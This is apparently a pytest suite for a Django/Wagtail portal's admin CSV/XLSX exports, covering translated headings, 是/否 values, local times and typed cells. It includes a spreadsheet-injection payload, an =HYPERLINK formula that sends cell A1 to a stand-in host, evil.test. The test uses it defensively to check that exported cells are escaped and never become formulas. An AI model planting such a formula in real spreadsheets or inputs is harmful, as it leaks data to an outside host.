"""The admin listings' downloads ("下载 CSV / XLSX") read as the screen does
(portal.admin_exports): choices by their label in the reader's language,
yes/no as 是/否, moments in local time to the minute, nothing for nothing,
translated headings, a CSV that Excel opens as UTF-8 (byte-order mark) and
an XLSX holding real dates and numbers; every cell formula-safe. Every
listing that offers a download is checked, found among the registered
viewsets, so a new one is covered without being named here.

And the listings themselves show a yes/no field as 是/否 (a tick or a cross
read out as such), not Wagtail's "True"/"False"."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime

import pytest
from django.db import models
from django.test import RequestFactory
from django.urls import reverse
from django.utils import translation
from django.utils.text import capfirst
from openpyxl import load_workbook
from wagtail.admin.viewsets import viewsets
from wagtail.snippets.views.snippets import SnippetViewSet
from wagtail.users.models import UserProfile

from portal.admin_columns import YesNoColumn
from portal.admin_exports import ReadableExportMixin, model_field
from portal.admin_scoping import ScopedSnippetViewSet
from tenants.models import ServiceRequest
from tests.base import logged_in, make_request, make_user

pytestmark = pytest.mark.django_db

# A moment with seconds and microseconds, in UTC: 18:46 in Shanghai.
RECEIVED = datetime(2026, 12, 2, 10, 46, 57, 224154, tzinfo=UTC)
PAYLOAD = '=HYPERLINK("http://evil.test/?d="&A1,"详情")'
MINUTE = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d")
DAY = re.compile(r"\d{4}-\d\d-\d\d")
RAW = {"None", "True", "False"}


def exporting_viewsets() -> dict[str, SnippetViewSet]:
    """Every registered listing that offers a download, by name."""
    reverse("wagtailadmin_home")  # builds the admin URLs, registering every viewset
    return {
        vs.name: vs for vs in viewsets.viewsets
        if isinstance(vs, SnippetViewSet) and isinstance(vs.list_export, list | tuple) and vs.list_export
    }


def in_language(user, language: str):
    profile = UserProfile.get_for_user(user)
    profile.preferred_language = language
    profile.save()
    return user


def _body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


def read_csv(response) -> tuple[list, list[list]]:
    body = _body(response)
    assert body.startswith(b"\xef\xbb\xbf"), body[:20]  # UTF-8 byte-order mark: Excel reads it as UTF-8
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(body.decode("utf-8")[1:])))
    return rows[0], rows[1:]


def read_xlsx(response) -> tuple[list, list[list]]:
    workbook = load_workbook(io.BytesIO(_body(response)))
    rows = [list(r) for r in workbook.worksheets[0].iter_rows(values_only=True)]
    for row in workbook.worksheets[0].iter_rows():
        assert not any(c.data_type == "f" for c in row)  # no cell is a formula
    return rows[0], rows[1:]


READERS = {"csv": read_csv, "xlsx": read_xlsx}


@pytest.fixture
def records(world):
    """A request received at RECEIVED by the web, an enquiry in progress whose
    subject a tenant typed as a formula; a tenant in lifestyle; a draft
    meeting notice and a stamped letter (the seal-use register's row)."""
    from tests.notices.delivery import stamped_letter
    from tests.notices.letters import draft_letter

    sr = make_request(world, channel="web", category="enquiry", subject=PAYLOAD)
    ServiceRequest.objects.filter(pk=sr.pk).update(created_at=RECEIVED, status="in_progress")
    world.tenant_a.category = "lifestyle"
    world.tenant_a.save()
    stamped_letter(world)
    draft_letter(world.drafter_a, world.centre_a, kind="meeting", title="关于召开商户大会的通知")
    world.sr = sr
    world.root = make_user("root@atrium.test", is_superuser=True, is_staff=True)
    return world


def download(world, viewset, fmt: str, language: str):
    """The listing's download as the centre's staff member whose work it is
    (the seal-use register is the seal keeper's, letters the drafter's), or a
    superuser, reading `language`."""
    people = [world.ops_a, world.seal_a, world.drafter_a, world.leader_a, world.root]
    url = reverse(viewset.get_url_name("list"))
    for person in people:
        response = logged_in(in_language(person, language)).get(url, {"export": fmt})
        if response.status_code == 200:
            return READERS[fmt](response)
    raise AssertionError(f"nobody could download {url}?export={fmt}")


def expected_heading(viewset, field: str) -> str | None:
    overrides = viewset.export_headings if isinstance(viewset.export_headings, dict) else {}
    if field in overrides:
        return str(overrides[field])
    mf = model_field(viewset.model, field)
    return capfirst(str(mf.verbose_name)) if mf is not None else None


def assert_readable(viewset, fmt: str, language: str, headings: list, rows: list[list]) -> None:
    """Each column as the listing shows it, whatever the listing."""
    name = f"{viewset.name} ({fmt}, {language})"
    assert rows, f"{name}: no row to check"
    assert len(headings) == len(viewset.list_export), name
    with translation.override(language):
        yes_no = {translation.gettext("Yes"), translation.gettext("No")}
        for index, field in enumerate(viewset.list_export):
            heading = headings[index]
            assert heading and heading != field, (name, field, heading)
            wanted = expected_heading(viewset, field)
            if wanted is not None:
                assert heading == wanted, (name, field, heading, wanted)
            mf = model_field(viewset.model, field)
            column = [row[index] for row in rows]
            assert not RAW & {str(v) for v in column if v is not None}, (name, field, column)
            filled = [v for v in column if v not in ("", None)]
            if mf is not None and mf.choices:
                labels = {str(label) for _code, label in mf.flatchoices}
                codes = {str(code) for code, _label in mf.flatchoices} - labels
                assert set(map(str, filled)) <= labels, (name, field, column)
                assert not set(map(str, filled)) & codes, (name, field, column)
            elif isinstance(mf, models.BooleanField):
                assert set(filled) <= yes_no, (name, field, column)
            elif isinstance(mf, models.DateTimeField):
                for v in filled:
                    if fmt == "csv":
                        assert MINUTE.fullmatch(v), (name, field, v)
                    else:
                        assert isinstance(v, datetime) and v.tzinfo is None, (name, field, v)
                        assert v.second == v.microsecond == 0, (name, field, v)
            elif isinstance(mf, models.DateField):
                for v in filled:
                    assert DAY.fullmatch(v) if fmt == "csv" else isinstance(v, datetime | date), (name, field, v)
            elif isinstance(mf, models.IntegerField | models.DecimalField | models.FloatField) and fmt == "xlsx":
                assert all(isinstance(v, int | float) for v in filled), (name, field, column)


def test_the_listings_named_in_the_review_are_among_those_checked():
    assert {"tenant", "unit", "contact", "servicerequest", "letter", "sealuse"} <= set(exporting_viewsets())


def test_every_exporting_listing_is_readable_in_chinese_and_english(records):
    for viewset in exporting_viewsets().values():
        assert isinstance(viewset.index_view.view_class(), ReadableExportMixin), viewset.name
        for language in ("zh-hans", "en"):
            for fmt in READERS:
                headings, rows = download(records, viewset, fmt, language)
                assert_readable(viewset, fmt, language, headings, rows)


def _row(headings, rows, number):
    return dict(zip(headings, next(r for r in rows if r[0] == number), strict=True))


def test_the_request_log_reads_as_the_screen_in_chinese(records):
    viewset = exporting_viewsets()["servicerequest"]
    for fmt in READERS:
        headings, rows = download(records, viewset, fmt, "zh-hans")
        assert headings[:3] == ["编号", "购物中心", "租户"], headings
        row = _row(headings, rows, records.sr.number)
        assert (row["渠道"], row["类别"], row["严重程度"], row["状态"]) == ("网站/论坛", "咨询", "一般", "处理中")
        assert row["二次投诉"] == "否"
        assert row["主题"] == "'" + PAYLOAD  # text, never a formula
        assert row["受理时间"] == ("2026-12-02 18:46" if fmt == "csv" else datetime(2026, 12, 2, 18, 46))
        assert row["评分"] in ("", None) and row["处理人"] in ("", None)  # empty, not "None"
        cells = {str(v) for r in rows for v in r if v is not None}
        assert not {"web", "enquiry", "ordinary", "new", "in_progress", "None"} & cells


def test_the_request_log_reads_in_english_for_a_reader_in_english(records):
    """The CSV is streamed after the view returned: its headings and labels
    are still in the reader's language, not the site's (Chinese)."""
    viewset = exporting_viewsets()["servicerequest"]
    for fmt in READERS:
        headings, rows = download(records, viewset, fmt, "en")
        assert headings[:3] == ["Number", "Centre", "Tenant"], (fmt, headings)
        row = _row(headings, rows, records.sr.number)
        assert (row["Channel"], row["Category"], row["Severity"], row["Status"]) == (
            "Website / forum", "Enquiry", "Ordinary", "In progress"), fmt
        assert row["Repeat complaint"] == "No"
        assert row["Received at"] == ("2026-12-02 18:46" if fmt == "csv" else datetime(2026, 12, 2, 18, 46))


def test_tenants_letters_and_contacts_read_as_their_screens(records):
    found = exporting_viewsets()
    tenants = [dict(zip(h, r, strict=True)) for h, rows in [download(records, found["tenant"], "csv", "zh-hans")]
               for r in rows]
    mine = next(t for t in tenants if t["租户编号"] == records.tenant_a.code)
    assert (mine["业态"], mine["状态"]) == ("生活服务", "营业中")
    assert mine["租期开始"] == "" or DAY.fullmatch(mine["租期开始"])
    headings, rows = download(records, found["letter"], "xlsx", "zh-hans")
    letters = [dict(zip(headings, r, strict=True)) for r in rows]
    meeting = next(x for x in letters if x["标题"] == "关于召开商户大会的通知")
    assert (meeting["类型"], meeting["状态"]) == ("会议通知", "草稿")
    assert meeting["盖章时间"] is None and meeting["文号"] is None  # a draft: no number, never stamped
    headings, rows = download(records, found["contact"], "csv", "zh-hans")
    contacts = [dict(zip(headings, r, strict=True)) for r in rows]
    assert {c["可签收函件"] for c in contacts} == {"是", "否"}
    assert {c["有效"] for c in contacts} <= {"是", "否"}


def test_the_xlsx_holds_dates_and_numbers_and_its_heading_is_bold(records):
    found = exporting_viewsets()
    units = found["unit"]
    response = logged_in(records.ops_a).get(reverse(units.get_url_name("list")), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(_body(response))).worksheets[0]
    assert sheet.title == "铺位" and sheet.freeze_panes == "A2"
    assert all(c.font.b for c in sheet[1])
    floor, area = sheet.cell(2, 3), sheet.cell(2, 4)
    assert isinstance(floor.value, int) and isinstance(area.value, float)
    requests = found["servicerequest"]
    response = logged_in(records.ops_a).get(reverse(requests.get_url_name("list")), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(_body(response))).worksheets[0]
    column = [c.value for c in sheet[1]].index("受理时间") + 1
    cell = next(sheet.cell(r, column) for r in range(2, sheet.max_row + 1) if sheet.cell(r, 1).value == records.sr.number)
    assert cell.is_date and cell.number_format == "yyyy-mm-dd hh:mm"
    assert sheet.column_dimensions[cell.column_letter].width >= len("2026-12-02 18:46")  # no "#####"


# --- the listings themselves ---------------------------------------------------------


def _cells(html: str) -> list[str]:
    """The text of every cell of the listing's table."""
    return [re.sub(r"<[^>]+>|\s+", "", c) for c in re.findall(r"<td[^>]*>(.*?)</td>", html, flags=re.S)]


def test_the_contacts_listing_shows_yes_and_no_not_true_and_false(world):
    html = logged_in(world.ops_a).get(reverse("wagtailsnippets_tenants_contact:list")).content.decode()
    cells = _cells(html)
    assert "是" in cells and "否" in cells  # the signer may sign, the clerk may not
    assert not RAW & set(cells), cells
    assert 'title="是"' in html and 'title="否"' in html  # on hover too


def test_every_scoped_listing_shows_a_yes_no_field_as_yes_or_no(world):
    """Every listing naming a yes/no field in list_display shows it through
    YesNoColumn (found among the registered viewsets: a new one too)."""
    reverse("wagtailadmin_home")
    request = RequestFactory().get("/admin/")
    request.user = make_user("root@atrium.test", is_superuser=True, is_staff=True)
    checked = set()
    for viewset in viewsets.viewsets:
        if not isinstance(viewset, ScopedSnippetViewSet):
            continue
        view_function = viewset.index_view
        view = view_function.view_class(**view_function.view_initkwargs)
        view.setup(request)
        for column in view.columns:
            field = model_field(viewset.model, column.name.replace("__", "."))
            if isinstance(field, models.BooleanField) or getattr(column, "accessor", None) == "has_seal":
                assert isinstance(column, YesNoColumn), (viewset.name, column.name, type(column))
                checked.add(viewset.name)
    assert {"contact", "lettertemplate"} <= checked, checked


def test_a_scoped_viewset_with_a_raw_index_view_is_refused():
    from django.core.exceptions import ImproperlyConfigured
    from wagtail.snippets.views.snippets import IndexView

    with pytest.raises(ImproperlyConfigured, match="ReadableIndexView"):
        type("RawExports", (ScopedSnippetViewSet,), {"index_view_class": IndexView, "__module__": __name__})
